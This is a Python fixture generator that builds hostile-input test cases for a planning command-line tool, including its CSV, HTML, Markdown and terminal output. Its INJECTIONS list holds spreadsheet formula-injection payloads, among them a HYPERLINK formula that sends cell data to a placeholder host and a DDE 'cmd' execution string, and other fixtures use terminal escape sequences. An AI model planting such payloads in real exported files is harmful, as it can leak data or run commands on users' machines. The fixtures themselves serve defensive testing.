# Fixture generator for scripts/hostile (Python 3 standard library only).
#
# Every function returns a list of cases for one class of issue #19. A case is a dict:
#   cls      class number (1-11) and name, for the summary table
#   name     what the case tries
#   argv     sprintplan arguments (bytes allowed for odd file names)
#   expect   exit statuses that are correct
#   checks   names of output checks (see scripts/hostile), e.g. "located", "csv-stdout"
#   limit    a --time-limit the run must honour (seconds), or None
# The values are drawn from fixed lists plus a seeded random sample, so a different --seed
# tries inputs no test has seen.
import copy
import json
import os
import random

from hostile_numbers import numeric_extremes, optimum_numbers
from hostile_support import case, load_base, write_json


def long_horizon(base, work, rng):
    """Class 2: a ten-year horizon and a generated district over it, under a time limit."""
    cases = []
    document = copy.deepcopy(base)
    document["programme"]["endDate"] = "2036-12-31"
    document["horizon"]["quarters"] = 40
    path = write_json(os.path.join(work, "horizon-40.json"), document)
    for limit in (3, 5):
        cases.append(case(2, f"plan 40 quarters --time-limit {limit}", ["plan", path, "--time-limit", str(limit)],
                          {0, 1, 2}, ["terminal"], limit=limit))
    cases.append(case(2, "report 40 quarters --time-limit 5",
                      ["report", path, "--time-limit", "5", "--out", path + ".html", "--format", "html"],
                      {0, 1, 2}, ["xml:" + path + ".html"], limit=5))
    for command in ("select", "decide"):
        cases.append(case(2, f"{command} 40 quarters --time-limit 5", [command, path, "--time-limit", "5"], {0, 1, 2},
                          ["terminal"], limit=5))
    # A generated district is not proven within seconds: decide then also re-solves for every
    # team's best alternative, and all of it must fit the limit.
    district = os.path.join(work, f"district-{rng.randint(1, 5)}.json")
    generate = [["generate", "--scale", "district", "--seed", district[-6], "--out", district]]
    explaining = ["--team", "Z1T1", "--quarter", "2027-Q1"]
    for command in ("decide", "plan", "explain"):
        argv = [command, district, "--time-limit", "5"] + (explaining if command == "explain" else [])
        cases.append(case(2, f"{command} a generated district --time-limit 5", argv, {0, 1, 2}, ["terminal"], limit=5,
                          setup=generate))
    quarters = rng.choice([24, 32, 40])
    document["horizon"]["quarters"] = quarters
    path = write_json(os.path.join(work, f"horizon-{quarters}.json"), document)
    cases.append(case(2, f"plan {quarters} quarters --time-limit 4", ["plan", path, "--time-limit", "4"], {0, 1, 2},
                      ["terminal"], limit=4))
    return cases


INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A1,"Klick")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
              "=cmd|' /C calc'!A0", "'=already quoted", "-", "--", "+", "@", "=", "-5", "-1.5e3"]


def formula_injection(base, work, rng):
    """Class 4: names that a spreadsheet would run, through every CSV writer."""
    document = copy.deepcopy(base)
    payloads = INJECTIONS + ["".join(rng.choice("=+-@\t\r'x1") for _ in range(rng.randint(1, 6))) for _ in range(6)]
    for index, payload in enumerate(payloads):
        measure = document["measures"][index % len(document["measures"])]
        measure["name"] = payload
        measure["municipalities"] = [payload, "VG " + payload]
    document["sprintteams"][0]["name"] = payloads[0]
    document["zielbilder"][0]["name"] = payloads[1]
    document["criteria"][0]["label"] = payloads[2]
    path = write_json(os.path.join(work, "injection.json"), document)
    cases = []
    for separator in ("comma", "semicolon"):
        out = os.path.join(work, f"injection-{separator}.csv")
        cases.append(case(4, f"export-measures --csv-separator {separator}",
                          ["export-measures", path, "--out", out, "--csv-separator", separator], {0},
                          [f"csv-file:{out}:{separator}"]))
        cases.append(case(4, f"score --format csv ({separator})",
                          ["score", path, "--format", "csv", "--csv-separator",
                           separator], {0}, [f"csv-stdout:{separator}"]))
    for command in ("plan", "decide"):
        cases.append(case(4, f"{command} --format csv", [command, path, "--quarters", "2", "--format", "csv"], {0},
                          ["csv-stdout"]))
    sweep = ["sweep", path, "--vary", "policy.switchingCost=5,10", "--quarters", "1", "--format", "csv"]
    cases.append(case(4, "sweep --format csv", sweep, {0}, ["csv-stdout"]))
    return cases


ROUND_TRIP_TEXTS = ["  leading", "trailing  ", "\u00a0no-break space", "nbsp at end\u00a0", "a|b", "a | b",
                    "back\\slash", "\\|", "end\\", "'quoted'", "''", "'", "=1+1", "-x", "comma, and; semicolon",
                    'say "hi"', "line\nbreak", "crlf\r\nbreak", "\ttab", "emoji 🚲", "RTL \u202eevil", "-5", "'-5",
                    "Ümläut ß", " ", "x" * 300]


def round_trip(base, work, rng):
    """Class 5: a scenario whose text survives export-measures then import-measures exactly."""
    document = copy.deepcopy(base)
    alphabet = " |\\'\"=,;\u00a0\tab\n"
    texts = ROUND_TRIP_TEXTS + ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 12))) for _ in range(8)]
    for index, text in enumerate(texts):
        measure = document["measures"][index % len(document["measures"])]
        if text.strip(" ") or index % 2:
            measure["name"] = text if text.strip() else "x" + text
        measure["municipalities"] = [text, text + " | ", "|" + text]
    path = write_json(os.path.join(work, "round-trip.json"), document)
    return [dict(cls=5, name=f"export then import ({separator})", special="round-trip", scenario=path,
                 separator=separator) for separator in ("comma", "semicolon")]


CONTROLS = [chr(c) for c in range(0, 32)] + ["\x7f", "\x85", "\x9b", "\u2028", "|", "\n", "\r\n",
                                             "\x1b[31mred\x1b[0m", "\x07bell"]


def control_characters(base, work, rng):
    """Class 6: names with control characters and table separators through every format."""
    document = copy.deepcopy(base)
    for index, control in enumerate(CONTROLS + [rng.choice(CONTROLS) + rng.choice(CONTROLS) for _ in range(5)]):
        document["measures"][index % len(document["measures"])]["name"] = f"M{index}{control}name{control}"
    document["sprintteams"][0]["name"] = "Team\x1b]0;title\x07|x\ny"
    document["zielbilder"][0]["name"] = "Ziel\x00bild | one\nline"
    document["name"] = "Scenario\x1b[2J\x00|\nname"
    document["criteria"][1]["label"] = "Label\x0b\x0c|"
    path = write_json(os.path.join(work, "controls.json"), document)
    html, markdown = path + ".html", path + ".md"
    cases = [case(6, "report --format html", ["report", path, "--quarters", "2", "--format", "html", "--out", html],
                  {0}, ["xml:" + html]),
             case(6, "report --format markdown",
                  ["report", path, "--quarters", "2", "--format", "markdown", "--out", markdown], {0},
                  ["markdown-file:" + markdown])]
    two, one = ["--quarters", "2"], ["--quarters", "1"]
    for argv in (["validate", path], ["score", path], ["score", path, "--format", "markdown"], ["plan", path] + two,
                 ["decide", path] + two, ["decide", path, "--format", "markdown"] + two,
                 ["explain", path, "--team", "T1", "--quarter", "2027-Q1"] + two, ["select", path],
                 ["compare", path, path] + one, ["compare", path, path, "--format", "markdown"] + one,
                 ["plan", path, "--format", "json"] + one, ["score", path, "--format", "json"],
                 ["decide", path, "--format", "json"] + one, ["validate", path, "--format", "json"]):
        checks = ["terminal"] + (["markdown-stdout"] if "markdown" in argv else [])
        checks += ["json-stdout"] if "json" in argv else []
        cases.append(case(6, " ".join(a for a in argv if a != path), argv, {0}, checks))
    return cases


def output_over_input(base, work, rng):
    """Class 7: an --out that is an input under another spelling or name."""
    path = write_json(os.path.join(work, "over.json"), base)
    folder = os.path.join(work, "over-records")
    record = os.path.join(folder, "decision-2027-Q1.json")
    sheet = os.path.join(work, "over.csv")
    setup = [["decide", path, "--quarters", "1", "--record-dir", folder], ["export-measures", path, "--out", sheet]]
    link = os.path.join(work, "over-link.json")
    hard = os.path.join(work, "over-hard.csv")
    spellings = {"same path": record, "./ prefix": os.path.join(folder, ".", "decision-2027-Q1.json"),
                 "symbolic link": link}
    cases = []
    for label, target in spellings.items():
        cases.append(case(7, f"advance --out = --record ({label})",
                          ["advance", path, "--record", record, "--out", target],
                          {64}, setup=setup, links=[(record, link, "sym")], unchanged=[record, path]))
    importing = ["import-measures", sheet, "--into", path, "--out"]
    cases += [
        case(7, "advance --out = scenario", ["advance", path, "--record", record, "--out", path], {64}, setup=setup,
             unchanged=[record, path]),
        case(7, "import-measures --out = sheet", importing + [sheet], {64}, setup=setup, unchanged=[sheet, path]),
        case(7, "import-measures --out = hard link of the sheet", importing + [hard], {64}, setup=setup,
             links=[(sheet, hard, "hard")], unchanged=[sheet, path]),
        case(7, "import-measures --out = --into", importing + [path], {64}, setup=setup, unchanged=[sheet, path]),
        case(7, "export-measures --out = scenario", ["export-measures", path, "--out", path], {64}, unchanged=[path]),
        case(7, "report --out = scenario", ["report", path, "--quarters", "1", "--out", path], {64}, unchanged=[path]),
        case(7, "export --lp = scenario", ["export", path, "--quarters", "1", "--lp", path], {64}, unchanged=[path]),
    ]
    child = write_json(os.path.join(work, "over-child.json"),
                       {"format": "sprintplan/1", "extends": "over.json", "name": "child"})
    cases.append(case(7, "report --out = the base of --compare", ["report", child, "--quarters", "1", "--out", path],
                      {64}, unchanged=[path]))
    return cases


SHEET_NUMBERS = ["0x10", "inf", "nan", "-inf", "1_000", "+5", ".5", "5.", "1e400", "0x1p3", "١٢", "５", "1,5,5",
                 "2 3"]


def refusals(base, work, rng):
    """Class 8: what must be refused with a located error, and a file that exists under an odd name."""
    cases = []
    for index, bad in enumerate(["base\u0000.json", "\u0000", "", "a\u0001b.json", "x" * 5000, "/dev/zero", "."]):
        path = write_json(os.path.join(work, f"extends-{index}.json"), {"format": "sprintplan/1", "extends": bad})
        cases.append(case(8, f"extends {bad[:20]!r}", ["validate", path], {65}, ["located"]))
    path = write_json(os.path.join(work, "sheet-base.json"), base)

    def importing(sheet, out=None):
        return ["import-measures", sheet, "--into", path, "--out", out or sheet + ".json"]

    for index, number in enumerate(SHEET_NUMBERS + [rng.choice(["0x", "1e", "-", "+"]) + str(rng.randint(0, 99))]):
        sheet = os.path.join(work, f"sheet-number-{index}.csv")
        with open(sheet, "w", encoding="utf-8") as f:
            f.write(f'id,effort\nM01,"{number}"\n')
        cases.append(case(8, f"sheet effort {number!r}", importing(sheet), {65}, ["located"]))
    for label, content in (("not UTF-8", b"id,name\nM01,caf\xe9\n"), ("NUL bytes", b"id\x00,name\nM01,x\n")):
        sheet = os.path.join(work, f"sheet-{label[:3]}.csv")
        with open(sheet, "wb") as f:
            f.write(content)
        cases.append(case(8, f"sheet {label}", importing(sheet), {65}, ["located"]))
    for label, target in (("a folder", work), ("a device", "/dev/zero")):
        cases.append(case(8, f"sheet is {label}", importing(target, os.path.join(work, "dev.json")), {65}, ["located"]))
    odd_sheet = os.path.join(work.encode(), b"sheet-\xff.csv")
    with open(odd_sheet, "w") as f:
        f.write("id\n")
    cases.append(case(8, "sheet named with invalid UTF-8 bytes", importing(odd_sheet, os.path.join(work, "odd.json")),
                      {0}))
    document = copy.deepcopy(base)
    document["sprintteams"] = []
    document["locks"] = {"pins": [], "forbidden": []}
    empty = write_json(os.path.join(work, "no-teams.json"), document)
    for command in ("validate", "plan"):
        cases.append(case(8, f"zero Sprintteams, running measures: {command}", [command, empty], {65}, ["located"]))
    odd = os.path.join(work.encode(), b"caf\xe9-\xff.json")
    with open(odd, "wb") as f:
        f.write(json.dumps(base).encode())
    cases.append(case(8, "file name with invalid UTF-8 bytes: validate", ["validate", odd], {0}))
    cases.append(case(8, "file name with invalid UTF-8 bytes: plan", ["plan", odd, "--quarters", "1"], {0}))
    folder = os.path.join(work.encode(), b"folder-\xfe")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, b"base.json"), "wb") as f:
        f.write(json.dumps(base).encode())
    with open(os.path.join(folder, b"child.json"), "wb") as f:
        f.write(json.dumps({"format": "sprintplan/1", "extends": "base.json", "name": "child"}).encode())
    child = os.path.join(folder, b"child.json")
    cases.append(case(8, "extends inside a folder named with invalid UTF-8", ["validate", child], {0}))
    return cases


def located_errors(base, work, rng):
    """Class 9: advance, history and CSV problems each name file, location and error[code]."""
    path = write_json(os.path.join(work, "loc.json"), base)
    folder = os.path.join(work, "loc-records")
    record = os.path.join(folder, "decision-2027-Q1.json")
    setup = [["decide", path, "--quarters", "1", "--record-dir", folder]]
    done = next(m["id"] for m in base["measures"] if m.get("status") in ("done", "dropped")) if any(
        m.get("status") in ("done", "dropped") for m in base["measures"]) else None
    progress = {
        "unknown Sprintteam": {"worked": {"T99": "M01"}},
        "unknown measure": {"worked": {"T1": "M999"}},
        "unknown measure in progress": {"progress": {"M999": 1}},
        "outcome for another quarter": {"quarter": "2027-Q3"},
        "negative progress": {"progress": {"M01": -1}},
        "huge progress": {"progress": {"M01": 1e308}},
        "not a map": {"worked": ["T1"]},
    }
    if done:
        progress["measure done or dropped"] = {"worked": {"T1": done}}
    cases = []
    for label, fields in progress.items():
        document = {"format": "sprintplan-progress/1", "quarter": "2027-Q1"}
        document.update(fields)
        progress_path = write_json(os.path.join(work, f"progress-{len(cases)}.json"), document)
        argv = ["advance", path, "--record", record, "--progress", progress_path, "--out",
                os.path.join(work, "next.json")]
        cases.append(case(9, f"advance: {label}", argv, {65}, ["located"], setup=setup))
    other = os.path.join(work, "loc-other")
    renamed = (os.path.join(other, "decision-2027-Q1.json"), os.path.join(other, "decision-2027-Q2.json"))
    cases.append(case(9, "history: a record named for another quarter", ["history", other], {65}, ["located"],
                      setup=[["decide", path, "--quarters", "1", "--record-dir", other]], renames=[renamed]))
    broken = os.path.join(work, "loc-broken")
    os.makedirs(broken, exist_ok=True)
    with open(os.path.join(broken, "decision-2027-Q1.json"), "w") as f:
        f.write('{"format": "sprintplan-record/1", "quarter": ')
    cases.append(case(9, "history: a cut record", ["history", broken], {65}, ["located"]))
    with open(os.path.join(work, "cut-record.json"), "w") as f:
        f.write('{"format": "sprintplan-record/1"')
    cut = ["advance", path, "--record", os.path.join(work, "cut-record.json"), "--out",
           os.path.join(work, "next2.json")]
    cases.append(case(9, "advance: a cut record", cut, {65}, ["located"]))
    sheets = ['id,name\nM01,"unclosed\n', 'id,name\nM01,x"y\n', 'id,name\nM01,"a"b\n', 'id,"na\nme\nM01,x\n',
              'id,name\nM01,ok\nM02,"' + "q" * rng.randint(1, 50)]
    for index, text in enumerate(sheets):
        sheet = os.path.join(work, f"syntax-{index}.csv")
        with open(sheet, "w", encoding="utf-8") as f:
            f.write(text)
        cases.append(case(9, f"CSV syntax {text[:24]!r}",
                          ["import-measures", sheet, "--into", path, "--out", sheet + ".json"],
                          {65}, ["located"]))
    return cases


def size(base, work, rng, measures=50_053):
    """Class 11: a huge valid-looking file (like the issue's 41 MB), and the largest supported size."""
    cases = []
    # 12 Sprintteams with cross-Zielbild help over 4 quarters: 5,200 open measures are the
    # largest supported scenario (250,000 team-measure-quarter combinations).
    sizes = ((measures, "beyond the limits"), (20_000, "beyond the combinations limit"),
             (5_200, "the largest supported"))
    for count, label in sizes:
        document = copy.deepcopy(base)
        template = [m for m in base["measures"] if m.get("status", "candidate") == "candidate" and not m.get("solution")
                    and not m.get("prerequisites")]
        extra = []
        for index in range(count - len(document["measures"])):
            measure = copy.deepcopy(template[index % len(template)])
            measure["id"] = f"X{index:06d}"
            measure["name"] = f"{measure['name']} #{index}"
            extra.append(measure)
        document["measures"] += extra
        path = write_json(os.path.join(work, f"size-{count}.json"), document)
        megabytes = os.path.getsize(path) / 1e6
        cases.append(case(11, f"validate {count} measures ({label}, {megabytes:.0f} MB)", ["validate", path], {0, 65},
                          ["located"], memory=True))
        for command in ("plan", "select"):
            cases.append(case(11, f"{command} {count} measures --time-limit 10", [command, path, "--time-limit", "10"],
                              {0, 2, 65}, ["located"], limit=10, memory=True))
    return cases


def records(base, work, rng):
    """Class 3: 20 writers at once, with and without --force, repeated."""
    path = write_json(os.path.join(work, "records.json"), base)
    return [dict(cls=3, name=f"20 concurrent decide {'--force ' if force else ''}round {round_}", special="records",
                 scenario=path, force=force, folder=os.path.join(work, f"records-{int(force)}-{round_}"), writers=20)
            for force in (False, True) for round_ in range(3)]


def all_cases(root, work, seed, only=(), measures=50_053):
    """Every case of the classes in `only` (all when empty), fixtures written into `work`."""
    rng = random.Random(seed)
    base = load_base(root)
    write_json(os.path.join(work, "base.json"), base)
    generators = {1: numeric_extremes, 2: long_horizon, 3: records, 4: formula_injection, 5: round_trip,
                  6: control_characters, 7: output_over_input, 8: refusals, 9: located_errors, 10: optimum_numbers,
                  11: lambda b, w, r: size(b, w, r, measures)}
    cases = []
    for cls, generate in generators.items():
        if not only or cls in only:
            cases += generate(base, work, rng)
    return cases
